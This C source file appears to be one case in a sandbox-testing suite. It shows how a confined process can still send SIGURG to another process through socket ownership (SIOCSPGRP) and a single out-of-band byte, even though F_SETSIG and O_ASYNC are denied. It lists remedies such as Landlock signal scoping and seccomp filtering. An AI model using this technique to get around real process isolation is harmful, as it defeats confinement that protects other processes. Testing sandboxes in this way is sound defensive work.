// SPDX-License-Identifier: MIT
/*
 * Goal:  another process gets a signal, although F_SETSIG and O_ASYNC are denied.
 * Means: out-of-band data. A socket's owner is told of it with SIGURG without having asked;
 *        SIOCSPGRP says who the owner is. One byte sent with MSG_OOB is enough, and a pair of unix
 *        sockets carries it as well as TCP does: no port, no host.
 */
#include "attacks/peer-tampering/target.h"

#include <asm/sockios.h>
#include <poll.h>
#include <sys/ioctl.h>
#include <sys/socket.h>

static enum claim run(const struct brief *b)
{
	pid_t owner = target(b);
	int pair[2];

	attempting(b);
	if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, pair))
		return denied("socketpair");
	if (ioctl(pair[1], SIOCSPGRP, &owner))
		return denied("ioctl SIOCSPGRP");
	if (send(pair[0], "!", 1, MSG_OOB) != 1)
		return denied("send MSG_OOB");
	poll(&(struct pollfd){ .fd = pair[1], .events = POLLPRI }, 1, 1000);
	return CLAIM_DONE;
}

const struct attack attack = {
	.effect = "another process is signalled with SIGURG, which no call in the list sends",
	.means = "ioctl(2) SIOCSPGRP and one urgent byte between two unix sockets",
	.oracle = "bystander",
	.id = "PEER-05",
	.attack_id = "T1489, CWE-693",
	.remedy = "no sockets; Landlock's signal scope; seccomp on the requests of ioctl(2)",
	.refs = (const char *const[]){ "socket(7), Ioctls", "unix(7), MSG_OOB", NULL },
	.run = run,
};
